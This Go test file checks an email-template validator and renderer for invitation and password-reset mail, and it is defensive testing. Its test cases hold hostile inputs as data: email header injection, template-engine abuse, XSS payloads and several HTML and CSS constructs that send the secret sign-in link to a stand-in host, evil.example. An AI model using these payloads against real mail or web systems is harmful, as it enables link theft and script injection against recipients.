package mail_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	admitmail "github.com/admitdev/admit/pkg/mail"
	"github.com/admitdev/admit/pkg/outcome"
	"github.com/admitdev/admit/pkg/store"
)

// good are words that may be sent.
func good() admitmail.Words {
	return admitmail.Words{Subject: "{{project}} invites {{ name }}", Text: "Dear {{name}}: {{link}}", HTML: `<p title="{{name}}">Dear {{name}}: <a href="{{link}}">come in</a></p>`}
}

func TestWordsThatCannotBeSentAreRefused(t *testing.T) {
	require.NoError(t, good().Check())
	link := `<a href="{{link}}">x</a>`
	for _, tc := range []struct {
		name, field string
		change      func(*admitmail.Words)
	}{
		{"no subject", "subject", func(w *admitmail.Words) { w.Subject = "" }},
		{"a subject of two lines", "subject", func(w *admitmail.Words) { w.Subject = "a\r\nBcc: b@example.com" }},
		{"a long subject", "subject", func(w *admitmail.Words) { w.Subject = strings.Repeat("a", 201) }},
		{"the link in the subject", "subject", func(w *admitmail.Words) { w.Subject = "{{link}}" }},
		{"a text without the link", "text", func(w *admitmail.Words) { w.Text = "Hello {{name}}" }},
		{"a program in the text", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{range 1000000000}}x{{end}}" }},
		{"a function in the text", "text", func(w *admitmail.Words) { w.Text = `{{link}} {{printf "%v" .}}` }},
		{"a field in the text", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{.Link}}" }},
		{"an unknown placeholder", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{password}}" }},
		{"half a placeholder", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{name" }},
		{"braces within braces", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{{{name}}}}" }},
		{"a NUL", "text", func(w *admitmail.Words) { w.Text = "{{link}}\x00" }},
		{"a long text", "text", func(w *admitmail.Words) { w.Text = "{{link}}" + strings.Repeat("a", 20_000) }},
		{"no HTML", "html", func(w *admitmail.Words) { w.HTML = "" }},
		{"HTML that shows the link and does not lead to it", "html", func(w *admitmail.Words) { w.HTML = "<p>{{link}}</p>" }},
		{"the link in a comment", "html", func(w *admitmail.Words) { w.HTML = "<!-- " + link + " -->" }},
		{"a link that goes elsewhere with ours", "html", func(w *admitmail.Words) { w.HTML = `<a href="https://evil.example/?{{link}}">x</a>` }},
		{"a picture that takes the link elsewhere", "html", func(w *admitmail.Words) { w.HTML = link + `<img src="https://evil.example/?{{link}}">` }},
		{"a second link that goes elsewhere with ours", "html", func(w *admitmail.Words) { w.HTML = link + `<a href="https://evil.example/?{{link}}">x</a>` }},
		{"a project before the link", "html", func(w *admitmail.Words) { w.HTML = link + `<a href="{{project}}{{link}}">x</a>` }},
		{"a style that takes the link elsewhere", "html", func(w *admitmail.Words) {
			w.HTML = link + `<p style="background:url('https://evil.example/?{{link}}')">x</p>`
		}},
		{"a style sheet that takes the link elsewhere", "html", func(w *admitmail.Words) {
			w.HTML = link + `<style>p{background:url("https://evil.example/? {{link}}")}</style>`
		}},
		{"shown HTML that takes the link elsewhere", "html", func(w *admitmail.Words) { w.HTML = link + `<p>https://evil.example/?{{link}}</p>` }},
		{"a text that takes the link elsewhere", "text", func(w *admitmail.Words) { w.Text = "https://evil.example/?{{link}}" }},
		{"a text with a project before the link", "text", func(w *admitmail.Words) { w.Text = "{{link}} {{project}}{{link}}" }},
		{"a script", "html", func(w *admitmail.Words) { w.HTML = link + "<script>alert(1)</script>" }},
		{"a handler", "html", func(w *admitmail.Words) { w.HTML = link + `<img src="https://x.example/a.png" OnError="alert(1)">` }},
		{"a script as an address", "html", func(w *admitmail.Words) { w.HTML = link + `<a href=" java&#115;cript:alert(1)">x</a>` }},
		{"data as an address", "html", func(w *admitmail.Words) { w.HTML = link + `<img src="data:image/svg+xml,x">` }},
		{"a form", "html", func(w *admitmail.Words) { w.HTML = link + `<form action="https://evil.example"><input name=p></form>` }},
		{"another base", "html", func(w *admitmail.Words) { w.HTML = `<base href="https://evil.example">` + link }},
		{"a refresh", "html", func(w *admitmail.Words) {
			w.HTML = link + `<meta http-equiv="refresh" content="0;url=https://evil.example">`
		}},
		{"a program in HTML", "html", func(w *admitmail.Words) { w.HTML = link + `{{template "x"}}` }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := good()
			tc.change(&w)
			var refused *outcome.Outcome
			require.ErrorAs(t, w.Check(), &refused)
			assert.Equal(t, []string{tc.field}, refused.Issues[0].Expression)
		})
	}
}

// ownWords are the words of one project.
type ownWords map[string]admitmail.Words

func (o ownWords) MailTemplate(_ context.Context, project, template string) (store.MailTemplate, error) {
	w, found := o[project]
	if !found {
		return store.MailTemplate{}, store.ErrNotFound
	}
	if w == (admitmail.Words{}) {
		return store.MailTemplate{}, errors.New("broken")
	}
	return store.MailTemplate{Project: project, Template: template, Subject: w.Subject, Text: w.Text, HTML: w.HTML}, nil
}

func TestAdmitsWordsMayBeAProjectsOwn(t *testing.T) {
	l, _ := letters(t, "Admit")
	for _, template := range []admitmail.Template{admitmail.InviteNew, admitmail.InviteExisting, admitmail.Reset} {
		words, err := l.Default(template)
		require.NoError(t, err)
		assert.NoError(t, words.Check(), template)
	}
}

func TestAProjectsOwnWordsAreFilledWithValuesAlone(t *testing.T) {
	l, _ := letters(t, "Admit")
	l.Own = ownWords{project: good(), "broken": {}}
	m := store.Mail{ID: "m1", Project: project, Template: string(admitmail.InviteExisting), Recipient: "h@example.com", ProjectName: "A\r\nBcc: x@example.com",
		RecipientName: `{{link}}" onload="x"><script>alert(1)</script>` + "\r\nSubject: y"}
	got, err := l.Render(t.Context(), m)
	require.NoError(t, err)
	assert.NotContains(t, got.Subject, "\n")
	assert.NotContains(t, got.Subject, "\r")
	assert.Contains(t, got.Text, `Dear {{link}}" onload`, "a value is no template")
	assert.NotContains(t, got.HTML, "<script>")
	assert.NotContains(t, got.HTML, `" onload="`)
	assert.Contains(t, got.HTML, `<a href="https://app.example/portal/signin">`)

	m.Template = string(admitmail.MFAReset)
	got, err = l.Render(t.Context(), m)
	require.NoError(t, err)
	assert.NotContains(t, got.Text, "Dear", "what guards an account is told in Admit's words")
	m.Template, m.Project = string(admitmail.InviteExisting), "broken"
	_, err = l.Render(t.Context(), m)
	require.Error(t, err)
}

func TestTheUsualWordsMayBeAProjectsOwn(t *testing.T) {
	l, _ := letters(t, "Admit")
	for _, template := range []admitmail.Template{admitmail.InviteNew, admitmail.InviteExisting, admitmail.Reset} {
		words, err := l.Default(template)
		require.NoError(t, err)
		require.NoError(t, words.Check(), "%+v", words)
		seen, err := l.Preview(words, "Clinic")
		require.NoError(t, err)
		assert.NotContains(t, seen.Subject+seen.Text+seen.HTML, "{{")
		assert.Contains(t, seen.HTML, `<a href="https://app.example/portal/setpassword/example/example">`)
	}
}
